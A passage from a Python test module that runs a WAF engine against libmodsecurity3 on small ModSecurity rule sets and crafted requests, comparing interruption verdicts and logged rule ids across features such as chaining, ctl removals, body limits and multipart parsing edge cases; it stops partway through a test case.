"""Differential: the engine against libmodsecurity3 itself (in process, through its C API).

Each case is a small rule set and a request; the verdict (interruption status) and the set of
rule ids the library logs must be the engine's. Skipped where libmodsecurity3 is not installed
(Debian ``libmodsecurity3``).
"""

from __future__ import annotations

import functools
import random
import re

import pytest

from palisade.waf import HttpRequest, HttpResponse, WafEngine
from tests.shared_data import shared_path

from . import libmodsec

pytestmark = pytest.mark.skipif(not libmodsec.AVAILABLE, reason="libmodsecurity3 not installed")

HEADERS = (("Host", "x"), ("User-Agent", "ua"))
FORM = (("Content-Type", "application/x-www-form-urlencoded"),)
MP = (("Content-Type", "multipart/form-data; boundary=XyZ"),)

# What the multipart cases compare: the flags, the body error, what was parsed, the raw
# part headers.
MULTIPART_PROBES = (
    "SecRequestBodyAccess On\n"
    'SecRule MULTIPART_STRICT_ERROR "!@eq 0" "id:1,phase:2,pass"\n'
    'SecRule MULTIPART_INVALID_QUOTING "!@eq 0" "id:2,phase:2,pass"\n'
    'SecRule MULTIPART_INVALID_PART "!@eq 0" "id:3,phase:2,pass"\n'
    'SecRule REQBODY_ERROR "!@eq 0" "id:4,phase:2,pass"\n'
    'SecRule &ARGS_POST "@eq 0" "id:5,phase:2,pass"\n'
    'SecRule &FILES "@eq 0" "id:6,phase:2,pass"\n'
    'SecRule MULTIPART_PART_HEADERS "@rx \\x0e" "id:7,phase:2,pass"\n'
    'SecRule MULTIPART_PART_HEADERS "@rx \\r\\n$" "id:8,phase:2,pass"\n'
    'SecRule REQBODY_ERROR_MSG "@rx Final boundary" "id:9,phase:2,pass"'
)

# (name, rules, uri, extra headers, body, response)
CASES: list[tuple[str, str, str, tuple[tuple[str, str], ...], bytes, object]] = [
    (
        "unset scalars yield an empty value",
        'SecRule REQUEST_BODY "@rx ^$" "id:1,phase:2,pass"\n'
        'SecRule &REQUEST_BODY "@eq 1" "id:2,phase:2,pass"\n'
        'SecRule REQBODY_PROCESSOR "!@rx (?:URLENCODED|MULTIPART|XML|JSON)" "id:3,phase:1,pass"\n'
        'SecRule &ARGS_POST "@eq 0" "id:5,phase:2,pass"\n'
        'SecRule REQUEST_HEADERS:Nope "@rx ^$" "id:6,phase:1,pass"\n'
        'SecRule &MATCHED_VAR "@eq 1" "id:7,phase:1,pass"',
        "/",
        (),
        b"",
        None,
    ),
    (
        "body access off skips phase 2",
        "SecRequestBodyAccess Off\n"
        'SecAction "id:1,phase:2,pass,msg:a"\nSecAction "id:2,phase:1,pass,msg:a"',
        "/",
        (),
        b"",
        None,
    ),
    (
        "chain starter setvar runs although the chain fails",
        'SecRule ARGS "@rx ^(v.*)$" "id:1,phase:1,pass,capture,'
        "setvar:'tx.seen_%{tx.1}=1',chain\"\n"
        '    SecRule ARGS:never "@rx ." "t:none"\n'
        'SecRule &TX:/^seen_/ "@eq 2" "id:2,phase:1,pass"',
        "/?a=v1&b=v2&c=w",
        (),
        b"",
        None,
    ),
    (
        "MATCHED_VARS accumulate until a rule does not match",
        'SecRule ARGS:a "@rx x" "id:1,phase:1,pass"\nSecRule ARGS:b "@rx y" "id:2,phase:1,pass"\n'
        'SecRule &MATCHED_VARS "@eq 2" "id:3,phase:1,pass"\n'
        'SecRule MATCHED_VARS_NAMES "@streq ARGS:a" "id:4,phase:1,pass"\n'
        'SecRule ARGS:b "@rx nomatch" "id:5,phase:1,pass"\n'
        'SecRule MATCHED_VAR "@rx ^$" "id:6,phase:1,pass"',
        "/?a=x&b=y",
        (),
        b"",
        None,
    ),
    (
        "multiMatch logs per value, also when its chain fails",
        'SecRule ARGS "@rx a" "id:1,phase:1,pass,nolog,multiMatch,t:none,t:lowercase"\n'
        'SecRule ARGS "@rx a" "id:2,phase:1,pass,multiMatch,chain"\n    SecRule ARGS:zz "@rx x" ""',
        "/?a=A&b=a&c=aa",
        (),
        b"",
        None,
    ),
    (
        "ctl:ruleRemoveById spares SecAction",
        'SecAction "id:1,phase:1,pass,nolog,ctl:ruleRemoveById=2-3"\n'
        'SecAction "id:2,phase:1,pass,msg:a"\n'
        'SecRule REQUEST_METHOD "@streq GET" "id:3,phase:1,pass"',
        "/",
        (),
        b"",
        None,
    ),
    (
        "skipAfter crosses phases",
        'SecAction "id:1,phase:1,pass,nolog,skipAfter:END"\nSecAction "id:2,phase:1,pass,msg:a"\n'
        'SecAction "id:3,phase:2,pass,msg:a"\nSecMarker END\nSecAction "id:4,phase:2,pass,msg:a"',
        "/",
        (),
        b"",
        None,
    ),
    (
        "an interruption ends the request phases, logging still runs",
        'SecAction "id:1,phase:1,deny,status:406"\nSecAction "id:2,phase:2,pass,msg:a"\n'
        'SecAction "id:3,phase:5,pass,msg:a"',
        "/",
        (),
        b"",
        None,
    ),
    (
        "allow",
        'SecAction "id:1,phase:1,allow"\nSecAction "id:2,phase:1,pass,msg:a"\n'
        'SecAction "id:3,phase:2,pass,msg:a"\nSecAction "id:4,phase:5,pass,msg:a"',
        "/",
        (),
        b"",
        None,
    ),
    (
        "allow:phase",
        'SecAction "id:1,phase:1,allow:phase"\nSecAction "id:2,phase:1,pass,msg:a"\n'
        'SecAction "id:3,phase:2,pass,msg:a"',
        "/",
        (),
        b"",
        None,
    ),
    (
        "block takes the default action",
        'SecDefaultAction "phase:2,log,deny,status:418"\n'
        'SecRule ARGS "@rx attack" "id:1,phase:2,block"',
        "/?a=attack",
        (),
        b"",
        None,
    ),
    (
        "DetectionOnly",
        'SecRuleEngine DetectionOnly\nSecRule ARGS "@rx attack" "id:1,phase:1,deny"\n'
        'SecAction "id:2,phase:2,pass,msg:a"\nSecRule ARGS "@rx attack" "id:3,phase:1,deny,nolog"',
        "/?a=attack",
        (),
        b"",
        None,
    ),
    (
        "what SecAction logs",
        'SecAction "id:1,phase:1,pass"\nSecAction "id:2,phase:1,pass,msg:m"\n'
        'SecAction "id:3,phase:1,block,nolog"\nSecAction "id:4,phase:1,pass,noauditlog,msg:m"',
        "/",
        (),
        b"",
        None,
    ),
    (
        "log flags in the order written",
        'SecRule ARGS "@rx a" "id:1,phase:1,pass,noauditlog,log"\n'
        'SecRule ARGS "@rx a" "id:2,phase:1,pass,auditlog,nolog"\n'
        'SecRule ARGS "@rx a" "id:3,phase:1,pass,nolog,auditlog"\n'
        'SecRule ARGS "@rx a" "id:4,phase:1,pass,log,noauditlog"',
        "/?a=a",
        (),
        b"",
        None,
    ),
    (
        "default transformations and t:none",
        'SecDefaultAction "phase:1,log,pass,t:lowercase"\n'
        'SecRule ARGS:q "@streq abc" "id:1,phase:1"\n'
        'SecRule ARGS:q "@streq abc" "id:2,phase:1,t:none"',
        "/?q=ABC",
        (),
        b"",
        None,
    ),
    (
        "setvar forms",
        'SecAction "id:1,phase:1,pass,nolog,setvar:tx.flag,setvar:tx.a=abc,setvar:tx.a=+5"\n'
        'SecRule TX:flag "@streq 1" "id:2,phase:1,pass"\n'
        'SecRule TX:a "@streq 5" "id:3,phase:1,pass"\n'
        'SecRule &TX:nothing "@eq 0" "id:4,phase:1,pass"\n'
        'SecRule TX:nothing "!@rx x" "id:5,phase:1,pass"',
        "/",
        (),
        b"",
        None,
    ),
    (
        "captures stay until overwritten",
        'SecRule ARGS:a "@rx (x)(y)" "id:1,phase:1,pass,nolog,capture"\n'
        'SecRule ARGS:b "@rx (z)" "id:2,phase:1,pass,nolog,capture"\n'
        'SecRule TX:2 "@streq y" "id:3,phase:1,pass"',
        "/?a=xy&b=z",
        (),
        b"",
        None,
    ),
    (
        "only capturing operators write TX; unmatched groups keep it; past TX.9",
        'SecRule ARGS:a "@rx (x)(y)" "id:1,phase:1,pass,nolog,capture"\n'
        'SecRule ARGS:b "@contains q" "id:2,phase:1,pass,nolog,capture"\n'
        'SecRule TX:0 "@streq xy" "id:3,phase:1,pass"\n'
        'SecRule ARGS:c "@rx (z)|(w)" "id:4,phase:1,pass,nolog,capture"\n'
        'SecRule TX:2 "@streq y" "id:5,phase:1,pass"\n'
        'SecRule ARGS:d "@rx (a)(b)(c)(d)(e)(f)(g)(h)(i)(j)(k)" "id:6,phase:1,pass,nolog,capture"\n'
        'SecRule TX:11 "@streq k" "id:7,phase:1,pass"',
        "/?a=xy&b=q&c=z&d=abcdefghijk",
        (),
        b"",
        None,
    ),
    (
        "request variables",
        'SecRule REQUEST_FILENAME "@streq /a b/c.php" "id:1,phase:1,pass"\n'
        'SecRule REQUEST_BASENAME "@streq c.php" "id:2,phase:1,pass"\n'
        'SecRule QUERY_STRING "@streq x=1" "id:5,phase:1,pass"\n'
        'SecRule REQUEST_COOKIES:s "@streq 1" "id:7,phase:1,pass"\n'
        'SecRule REQUEST_COOKIES_NAMES "@streq t" "id:8,phase:1,pass"\n'
        'SecRule REQUEST_HEADERS_NAMES "@streq user-agent" "id:9,phase:1,pass,t:lowercase"',
        "/a%20b/c.php?x=1",
        (("Cookie", "s=1; t=2"),),
        b"",
        None,
    ),
    (
        "urlencoded body",
        "SecRequestBodyAccess On\n"
        'SecRule ARGS_POST:x "@streq 1" "id:1,phase:2,pass"\n'
        'SecRule REQUEST_BODY "@streq x=1" "id:2,phase:2,pass"\n'
        'SecRule REQBODY_PROCESSOR "@streq URLENCODED" "id:3,phase:1,pass"\n'
        'SecRule ARGS_NAMES "@streq x" "id:4,phase:2,pass"',
        "/",
        FORM,
        b"x=1",
        None,
    ),
    (
        "SecRuleUpdateTargetByTag / ByMsg (a)",
        'SecRule ARGS "@rx evil" "id:1,phase:1,pass,tag:\'attack-x\'"\n'
        'SecRule ARGS "@rx evil" "id:2,phase:1,pass,msg:\'Evil found\'"\n'
        'SecRuleUpdateTargetByTag attack-x "!ARGS:a"\n'
        'SecRuleUpdateTargetByMsg "Evil found" "!ARGS:b"\n'
        'SecRuleUpdateTargetById 999 "!ARGS:c"',
        "/?a=evil",
        (),
        b"",
        None,
    ),
    (
        "SecRuleUpdateTargetByTag / ByMsg (b)",
        'SecRule ARGS "@rx evil" "id:1,phase:1,pass,tag:\'attack-x\'"\n'
        'SecRule ARGS "@rx evil" "id:2,phase:1,pass,msg:\'Evil found\'"\n'
        'SecRuleUpdateTargetByTag attack-x "!ARGS:a"\n'
        'SecRuleUpdateTargetByMsg "Evil found" "!ARGS:b"\n'
        'SecRuleUpdateTargetById 999 "!ARGS:c"',
        "/?b=evil",
        (),
        b"",
        None,
    ),
    (
        "ctl target removals",
        'SecRule ARGS:x "@streq 1" "id:1,phase:1,pass,nolog,'
        'ctl:ruleRemoveTargetById=10;ARGS:secret,ctl:ruleRemoveTargetByTag=t2;ARGS:other"\n'
        'SecRule ARGS "@rx evil" "id:10,phase:2,pass"\n'
        'SecRule ARGS "@rx evil" "id:11,phase:2,pass,tag:\'t2\'"\n'
        'SecRule ARGS "@rx evil" "id:12,phase:2,pass"',
        "/?x=1&secret=evil&other=evil",
        (),
        b"",
        None,
    ),
    (
        "ctl target removal leaves other arguments",
        'SecRule ARGS:x "@streq 1" "id:1,phase:1,pass,nolog,'
        'ctl:ruleRemoveTargetById=10;ARGS:secret"\n'
        'SecRule ARGS "@rx evil" "id:10,phase:2,pass"',
        "/?x=1&secret=evil&b=evil",
        (),
        b"",
        None,
    ),
    (
        "SecRuleRemoveByTag and ctl:ruleRemoveByTag",
        'SecRule ARGS "@rx a" "id:1,phase:1,pass,tag:\'gone\'"\n'
        'SecRule ARGS "@rx a" "id:2,phase:1,pass,tag:\'later\'"\n'
        'SecRule ARGS "@rx a" "id:3,phase:2,pass,tag:\'later\'"\n'
        'SecRule ARGS "@rx a" "id:4,phase:1,pass,nolog,ctl:ruleRemoveByTag=later"\n'
        "SecRuleRemoveByTag gone",
        "/?q=a",
        (),
        b"",
        None,
    ),
    (
        "repeated headers and counts",
        'SecRule &REQUEST_HEADERS:X-Dup "@eq 2" "id:1,phase:1,pass"\n'
        'SecRule REQUEST_HEADERS:x-dup "@streq two" "id:2,phase:1,pass"\n'
        'SecRule &REQUEST_HEADERS_NAMES "@ge 4" "id:3,phase:1,pass"\n'
        'SecRule &ARGS_GET "@eq 2" "id:4,phase:1,pass"\n'
        'SecRule ARGS_GET:A "@streq 1" "id:5,phase:1,pass"',
        "/?a=1&a=2",
        (("X-Dup", "one"), ("x-dup", "two")),
        b"",
        None,
    ),
    (
        "SecRuleUpdateActionById",
        'SecRule ARGS "@rx attack" "id:1,phase:1,deny,msg:old"\n'
        'SecRuleUpdateActionById 1 "pass"\n'
        'SecRule ARGS "@rx attack" "id:2,phase:1,pass,nolog"\n'
        'SecRuleUpdateActionById 2 "log"\n'
        'SecRule ARGS "@rx attack" "id:3,phase:1,pass"\n'
        'SecRuleUpdateActionById 3 "t:none,t:uppercase"\n'
        'SecRule ARGS "@rx ATTACK" "id:4,phase:1,pass,t:none"\n'
        'SecRuleUpdateActionById 4 "t:uppercase"\n'
        'SecRule ARGS "@rx attack" "id:5,phase:1,pass"\n'
        'SecRuleUpdateActionById 5 "deny,status:403"',
        "/?a=attack",
        (),
        b"",
        None,
    ),
    (
        "request body over the limit (Reject)",
        "SecRequestBodyAccess On\nSecRequestBodyLimit 10\nSecRequestBodyLimitAction Reject\n"
        'SecRule INBOUND_DATA_ERROR "@eq 1" "id:1,phase:2,pass"\n'
        'SecRule ARGS_POST:a "@rx ." "id:2,phase:2,pass"\n'
        'SecAction "id:3,phase:2,pass,msg:p2"',
        "/",
        FORM,
        b"a=1234567890123",
        None,
    ),
    (
        "request body over the limit (ProcessPartial)",
        "SecRequestBodyAccess On\nSecRequestBodyLimit 10\n"
        "SecRequestBodyLimitAction ProcessPartial\n"
        'SecRule INBOUND_DATA_ERROR "@eq 1" "id:1,phase:2,pass"\n'
        'SecRule ARGS_POST:a "@streq 12345678" "id:2,phase:2,pass"\n'
        'SecAction "id:3,phase:2,pass,msg:p2"',
        "/",
        FORM,
        b"a=1234567890123",
        None,
    ),
    (
        "response body over the limit (Reject)",
        "SecResponseBodyAccess On\nSecResponseBodyLimit 10\nSecResponseBodyLimitAction Reject\n"
        'SecRule OUTBOUND_DATA_ERROR "@eq 1" "id:1,phase:4,pass"\n'
        'SecRule RESPONSE_BODY "@rx ." "id:2,phase:4,pass"\n'
        'SecAction "id:3,phase:4,pass,msg:p4"',
        "/",
        (),
        b"",
        (200, (("Content-Type", "text/html"),), b"0123456789ABCDEF"),
    ),
    (
        "allow:request",
        'SecAction "id:1,phase:1,allow:request"\nSecAction "id:2,phase:1,pass,msg:x"\n'
        'SecAction "id:3,phase:2,pass,msg:x"\nSecAction "id:4,phase:3,pass,msg:x"\n'
        'SecAction "id:5,phase:5,pass,msg:x"',
        "/",
        (),
        b"",
        (200, (("Content-Type", "text/html"),), b"hi"),
    ),
    (
        "allow with a response",
        'SecAction "id:1,phase:1,allow"\nSecAction "id:3,phase:2,pass,msg:x"\n'
        'SecAction "id:4,phase:3,pass,msg:x"\nSecAction "id:6,phase:4,pass,msg:x"\n'
        'SecAction "id:5,phase:5,pass,msg:x"',
        "/",
        (),
        b"",
        (200, (("Content-Type", "text/html"),), b"hi"),
    ),
    (
        "skip across the end of a phase",
        'SecAction "id:1,phase:1,pass,nolog,skip:2"\nSecAction "id:2,phase:1,pass,msg:x"\n'
        'SecAction "id:3,phase:2,pass,msg:x"\nSecAction "id:4,phase:2,pass,msg:x"\n'
        'SecAction "id:5,phase:2,pass,msg:x"',
        "/",
        (),
        b"",
        None,
    ),
    (
        "skipAfter to a missing marker",
        'SecAction "id:1,phase:1,pass,nolog,skipAfter:NOPE"\nSecAction "id:2,phase:1,pass,msg:x"\n'
        'SecAction "id:3,phase:2,pass,msg:x"\nSecAction "id:4,phase:5,pass,msg:x"',
        "/",
        (),
        b"",
        None,
    ),
    (
        "deny in phase 3",
        'SecResponseBodyAccess On\nSecRule RESPONSE_STATUS "@streq 200" "id:1,phase:3,deny"\n'
        'SecAction "id:3,phase:4,pass,msg:x"\nSecAction "id:4,phase:5,pass,msg:x"',
        "/",
        (),
        b"",
        (200, (("Content-Type", "text/html"),), b"hi"),
    ),
    (
        "redirect and drop",
        'SecRule ARGS:r "@rx a" "id:1,phase:1,redirect:http://e.com/"\n'
        'SecRule ARGS:d "@rx a" "id:2,phase:1,drop"',
        "/?r=a",
        (),
        b"",
        None,
    ),
    (
        "TX keys by regex, case-insensitively",
        'SecAction "id:1,phase:1,pass,nolog,setvar:tx.Foo_1=a,setvar:tx.foo_2=b"\n'
        'SecRule TX:/^FOO_/ "@rx ." "id:2,phase:1,pass"\n'
        'SecRule &TX:/^foo_/ "@eq 2" "id:3,phase:1,pass"\n'
        'SecRule TX:FOO_1 "@streq a" "id:4,phase:1,pass"',
        "/",
        (),
        b"",
        None,
    ),
    (
        "cookie edge cases",
        'SecRule REQUEST_COOKIES_NAMES "@rx ^ b$" "id:1,phase:1,pass"\n'
        'SecRule &REQUEST_COOKIES "@eq 3" "id:2,phase:1,pass"\n'
        'SecRule REQUEST_COOKIES:c "@rx ^$" "id:3,phase:1,pass"',
        "/",
        (("Cookie", "a=1; b=2;c"),),
        b"",
        None,
    ),
    (
        "a #fragment ends REQUEST_URI, the query and ARGS, not REQUEST_URI_RAW",
        'SecRule REQUEST_URI "@streq /x" "id:1,phase:1,pass"\n'
        'SecRule QUERY_STRING "@rx ^$" "id:2,phase:1,pass"\n'
        'SecRule &ARGS "@eq 0" "id:3,phase:1,pass"\n'
        'SecRule REQUEST_URI_RAW "@streq /x#frag?b=2" "id:4,phase:1,pass"\n'
        'SecRule REQUEST_LINE "@rx #frag" "id:5,phase:1,pass"\n'
        'SecRule REQUEST_BASENAME "@streq x" "id:6,phase:1,pass"',
        "/x#frag?b=2",
        (),
        b"",
        None,
    ),
    (
        "a #fragment after the query",
        'SecRule ARGS:a "@streq 1#b" "id:1,phase:1,pass"\n'
        'SecRule &ARGS:d "@eq 0" "id:3,phase:1,pass"\n'
        'SecRule QUERY_STRING "@streq a=1%23b" "id:2,phase:1,pass"',
        "/x?a=1%23b#c&d=2",
        (),
        b"",
        None,
    ),
    (
        "exact response MIME type: text/html vs TEXT/HTML",
        "SecResponseBodyAccess On\nSecResponseBodyMimeType text/html\n"
        'SecRule RESPONSE_BODY "@rx ." "id:1,phase:4,pass"',
        "/",
        (),
        b"",
        (200, (("Content-Type", "TEXT/HTML"),), b"hi"),
    ),
    (
        "exact response MIME type: text/html vs text/HTML; charset=x",
        "SecResponseBodyAccess On\nSecResponseBodyMimeType text/html\n"
        'SecRule RESPONSE_BODY "@rx ." "id:1,phase:4,pass"',
        "/",
        (),
        b"",
        (200, (("Content-Type", "text/HTML; charset=x"),), b"hi"),
    ),
    (
        "exact response MIME type: text/html vs text/html ; charset=x",
        "SecResponseBodyAccess On\nSecResponseBodyMimeType text/html\n"
        'SecRule RESPONSE_BODY "@rx ." "id:1,phase:4,pass"',
        "/",
        (),
        b"",
        (200, (("Content-Type", "text/html ; charset=x"),), b"hi"),
    ),
    (
        "exact response MIME type: text/html vs text/html;x",
        "SecResponseBodyAccess On\nSecResponseBodyMimeType text/html\n"
        'SecRule RESPONSE_BODY "@rx ." "id:1,phase:4,pass"',
        "/",
        (),
        b"",
        (200, (("Content-Type", "text/html;x"),), b"hi"),
    ),
    (
        "exact response MIME type: text/html vs Text/Html",
        "SecResponseBodyAccess On\nSecResponseBodyMimeType text/html\n"
        'SecRule RESPONSE_BODY "@rx ." "id:1,phase:4,pass"',
        "/",
        (),
        b"",
        (200, (("Content-Type", "Text/Html"),), b"hi"),
    ),
    (
        "exact response MIME type: Text/Html text/plain vs TEXT/HTML",
        "SecResponseBodyAccess On\nSecResponseBodyMimeType Text/Html text/plain\n"
        'SecRule RESPONSE_BODY "@rx ." "id:1,phase:4,pass"',
        "/",
        (),
        b"",
        (200, (("Content-Type", "TEXT/HTML"),), b"hi"),
    ),
    (
        "exact response MIME type: Text/Html text/plain vs text/HTML; charset=x",
        "SecResponseBodyAccess On\nSecResponseBodyMimeType Text/Html text/plain\n"
        'SecRule RESPONSE_BODY "@rx ." "id:1,phase:4,pass"',
        "/",
        (),
        b"",
        (200, (("Content-Type", "text/HTML; charset=x"),), b"hi"),
    ),
    (
        "exact response MIME type: Text/Html text/plain vs text/html ; charset=x",
        "SecResponseBodyAccess On\nSecResponseBodyMimeType Text/Html text/plain\n"
        'SecRule RESPONSE_BODY "@rx ." "id:1,phase:4,pass"',
        "/",
        (),
        b"",
        (200, (("Content-Type", "text/html ; charset=x"),), b"hi"),
    ),
    (
        "exact response MIME type: Text/Html text/plain vs text/html;x",
        "SecResponseBodyAccess On\nSecResponseBodyMimeType Text/Html text/plain\n"
        'SecRule RESPONSE_BODY "@rx ." "id:1,phase:4,pass"',
        "/",
        (),
        b"",
        (200, (("Content-Type", "text/html;x"),), b"hi"),
    ),
    (
        "exact response MIME type: Text/Html text/plain vs Text/Html",
        "SecResponseBodyAccess On\nSecResponseBodyMimeType Text/Html text/plain\n"
        'SecRule RESPONSE_BODY "@rx ." "id:1,phase:4,pass"',
        "/",
        (),
        b"",
        (200, (("Content-Type", "Text/Html"),), b"hi"),
    ),
    (
        "a single quote inside a double-quoted filename",
        MULTIPART_PROBES,
        "/",
        MP,
        (
            b'--XyZ\r\nContent-Disposition: form-data; name="f"; filename="te\'st.txt"\r\n\r\nv\r\n'
            b"--XyZ--\r\n"
        ),
        None,
    ),
    (
        "a single quote inside a double-quoted name",
        MULTIPART_PROBES,
        "/",
        MP,
        b'--XyZ\r\nContent-Disposition: form-data; name="a\'b"\r\n\r\nv\r\n--XyZ--\r\n',
        None,
    ),
    (
        "a single quote in an unquoted name",
        MULTIPART_PROBES,
        "/",
        MP,
        b"--XyZ\r\nContent-Disposition: form-data; name=a'b\r\n\r\nv\r\n--XyZ--\r\n",
        None,
    ),
    (
        "a 0x0e byte in a part header name",
        MULTIPART_PROBES,
        "/",
        MP,
        (
            b'--XyZ\r\nContent-Disposition: form-data; name="a"\r\n\x0eX\x7f: y\r\n\r\nv\r\n'
            b"--XyZ--\r\n"
        ),
        None,
    ),
    (
        "a bad Content-Disposition stops the multipart parser",
        MULTIPART_PROBES,
        "/",
        MP,
        (
            b'--XyZ\r\nContent-Disposition: form-data; name="ok"\r\n\r\nv\r\n--XyZ\r\n'
            b'Content-Disposition: form-data; name="a"; foo="b"\r\n\r\nv\r\n--XyZ\r\n'
            b'Content-Disposition: form-data; name="f"; filename="x"\r\n\r\nv\r\n--XyZ--\r\n'
        ),
        None,
    ),
    (
        "multipart header errors keep the parts",
        MULTIPART_PROBES,
        "/",
        MP,
        (
            b'--XyZ\r\nContent-Disposition: form-data; name="a"\r\nnocolon\r\n\r\nv\r\n--XyZ\r\n'
            b'Content-Disposition: form-data; name="f"; filename="x"\r\n\r\nv\r\n--XyZ--\r\n'
        ),
        None,
    ),
    (
        "no-files limit (Reject): an urlencoded body",
        "SecRequestBodyAccess On\nSecRequestBodyNoFilesLimit 50\n"
        "SecRequestBodyLimitAction Reject\n"
        'SecRule REQBODY_ERROR "@eq 1" "id:1,phase:2,pass"\n'
        'SecRule INBOUND_DATA_ERROR "@eq 1" "id:2,phase:2,pass"\n'
        'SecRule &ARGS_POST "@eq 0" "id:3,phase:2,pass"\n'
        'SecRule REQBODY_ERROR_MSG "@rx excluding files" "id:4,phase:2,pass"\n'
        'SecRule REQUEST_BODY_LENGTH "@gt 50" "id:5,phase:2,pass"\n'
        'SecRule &FILES "@eq 1" "id:6,phase:2,pass"',
        "/",
        FORM,
        b"a=b&c=" + b"x" * 45,
        None,
    ),
    (
        "no-files limit (Reject): an urlencoded body at",
        "SecRequestBodyAccess On\nSecRequestBodyNoFilesLimit 50\n"
        "SecRequestBodyLimitAction Reject\n"
        'SecRule REQBODY_ERROR "@eq 1" "id:1,phase:2,pass"\n'
        'SecRule INBOUND_DATA_ERROR "@eq 1" "id:2,phase:2,pass"\n'
        'SecRule &ARGS_POST "@eq 0" "id:3,phase:2,pass"\n'
        'SecRule REQBODY_ERROR_MSG "@rx excluding files" "id:4,phase:2,pass"\n'
        'SecRule REQUEST_BODY_LENGTH "@gt 50" "id:5,phase:2,pass"\n'
        'SecRule &FILES "@eq 1" "id:6,phase:2,pass"',
        "/",
        FORM,
        b"a=b&c=" + b"x" * 44,
        None,
    ),
    (
        "no-files limit (Reject): a multipart body",
        "SecRequestBodyAccess On\nSecRequestBodyNoFilesLimit 50\n"
        "SecRequestBodyLimitAction Reject\n"
        'SecRule REQBODY_ERROR "@eq 1" "id:1,phase:2,pass"\n'
        'SecRule INBOUND_DATA_ERROR "@eq 1" "id:2,phase:2,pass"\n'
        'SecRule &ARGS_POST "@eq 0" "id:3,phase:2,pass"\n'
        'SecRule REQBODY_ERROR_MSG "@rx excluding files" "id:4,phase:2,pass"\n'
        'SecRule REQUEST_BODY_LENGTH "@gt 50" "id:5,phase:2,pass"\n'
        'SecRule &FILES "@eq 1" "id:6,phase:2,pass"',
        "/",
        MP,
        (
            b'--XyZ\r\nContent-Disposition: form-data; name="a"\r\n\r\n'
            + b"v\r\n" * 3
            + b"\r\n--XyZ--\r\n"
        ),
        None,
    ),
    (
        "no-files limit (Reject): a multipart body at",
        "SecRequestBodyAccess On\nSecRequestBodyNoFilesLimit 50\n"
        "SecRequestBodyLimitAction Reject\n"
        'SecRule REQBODY_ERROR "@eq 1" "id:1,phase:2,pass"\n'
        'SecRule INBOUND_DATA_ERROR "@eq 1" "id:2,phase:2,pass"\n'
        'SecRule &ARGS_POST "@eq 0" "id:3,phase:2,pass"\n'
        'SecRule REQBODY_ERROR_MSG "@rx excluding files" "id:4,phase:2,pass"\n'
        'SecRule REQUEST_BODY_LENGTH "@gt 50" "id:5,phase:2,pass"\n'
        'SecRule &FILES "@eq 1" "id:6,phase:2,pass"',
        "/",
        MP,
        (
            b'--XyZ\r\nContent-Disposition: form-data; name="a"\r\n\r\n'
            + b"v\r\n" * 2
            + b"\r\n--XyZ--\r\n"
        ),
        None,
    ),
    (
        "no-files limit (Reject): a multipart file",
        "SecRequestBodyAccess On\nSecRequestBodyNoFilesLimit 50\n"
        "SecRequestBodyLimitAction Reject\n"
        'SecRule REQBODY_ERROR "@eq 1" "id:1,phase:2,pass"\n'
        'SecRule INBOUND_DATA_ERROR "@eq 1" "id:2,phase:2,pass"\n'
        'SecRule &ARGS_POST "@eq 0" "id:3,phase:2,pass"\n'
        'SecRule REQBODY_ERROR_MSG "@rx excluding files" "id:4,phase:2,pass"\n'
        'SecRule REQUEST_BODY_LENGTH "@gt 50" "id:5,phase:2,pass"\n'
        'SecRule &FILES "@eq 1" "id:6,phase:2,pass"',
        "/",
        MP,
        (
            b'--XyZ\r\nContent-Disposition: form-data; name="a"; filename="f"\r\n\r\n'
            + b"v" * 300
            + b"\r\n--XyZ--\r\n"
        ),
        None,
    ),
    (
        "no-files limit (ProcessPartial): an urlencoded body",
        "SecRequestBodyAccess On\nSecRequestBodyNoFilesLimit 50\n"
        "SecRequestBodyLimitAction ProcessPartial\n"
        'SecRule REQBODY_ERROR "@eq 1" "id:1,phase:2,pass"\n'
        'SecRule INBOUND_DATA_ERROR "@eq 1" "id:2,phase:2,pass"\n'
        'SecRule &ARGS_POST "@eq 0" "id:3,phase:2,pass"\n'
        'SecRule REQBODY_ERROR_MSG "@rx excluding files" "id:4,phase:2,pass"\n'
        'SecRule REQUEST_BODY_LENGTH "@gt 50" "id:5,phase:2,pass"\n'
        'SecRule &FILES "@eq 1" "id:6,phase:2,pass"',
        "/",
        FORM,
        b"a=b&c=" + b"x" * 45,
        None,
    ),
    (
        "no-files limit (ProcessPartial): an urlencoded body at",
        "SecRequestBodyAccess On\nSecRequestBodyNoFilesLimit 50\n"
        "SecRequestBodyLimitAction ProcessPartial\n"
        'SecRule REQBODY_ERROR "@eq 1" "id:1,phase:2,pass"\n'
        'SecRule INBOUND_DATA_ERROR "@eq 1" "id:2,phase:2,pass"\n'
        'SecRule &ARGS_POST "@eq 0" "id:3,phase:2,pass"\n'
        'SecRule REQBODY_ERROR_MSG "@rx excluding files" "id:4,phase:2,pass"\n'
        'SecRule REQUEST_BODY_LENGTH "@gt 50" "id:5,phase:2,pass"\n'
        'SecRule &FILES "@eq 1" "id:6,phase:2,pass"',
        "/",
        FORM,
        b"a=b&c=" + b"x" * 44,
        None,
    ),
    (
        "no-files limit (ProcessPartial): a multipart body",
        "SecRequestBodyAccess On\nSecRequestBodyNoFilesLimit 50\n"
        "SecRequestBodyLimitAction ProcessPartial\n"
        'SecRule REQBODY_ERROR "@eq 1" "id:1,phase:2,pass"\n'
        'SecRule INBOUND_DATA_ERROR "@eq 1" "id:2,phase:2,pass"\n'
        'SecRule &ARGS_POST "@eq 0" "id:3,phase:2,pass"\n'
        'SecRule REQBODY_ERROR_MSG "@rx excluding files" "id:4,phase:2,pass"\n'
        'SecRule REQUEST_BODY_LENGTH "@gt 50" "id:5,phase:2,pass"\n'
        'SecRule &FILES "@eq 1" "id:6,phase:2,pass"',
        "/",
        MP,
        (
            b'--XyZ\r\nContent-Disposition: form-data; name="a"\r\n\r\n'
            + b"v\r\n" * 3
            + b"\r\n--XyZ--\r\n"
        ),
        None,
    ),
    (
        "no-files limit (ProcessPartial): a multipart body at",
        "SecRequestBodyAccess On\nSecRequestBodyNoFilesLimit 50\n"
        "SecRequestBodyLimitAction ProcessPartial\n"
        'SecRule REQBODY_ERROR "@eq 1" "id:1,phase:2,pass"\n'
        'SecRule INBOUND_DATA_ERROR "@eq 1" "id:2,phase:2,pass"\n'
        'SecRule &ARGS_POST "@eq 0" "id:3,phase:2,pass"\n'
        'SecRule REQBODY_ERROR_MSG "@rx excluding files" "id:4,phase:2,pass"\n'
        'SecRule REQUEST_BODY_LENGTH "@gt 50" "id:5,phase:2,pass"\n'
        'SecRule &FILES "@eq 1" "id:6,phase:2,pass"',
        "/",
        MP,
        (
            b'--XyZ\r\nContent-Disposition: form-data; name="a"\r\n\r\n'
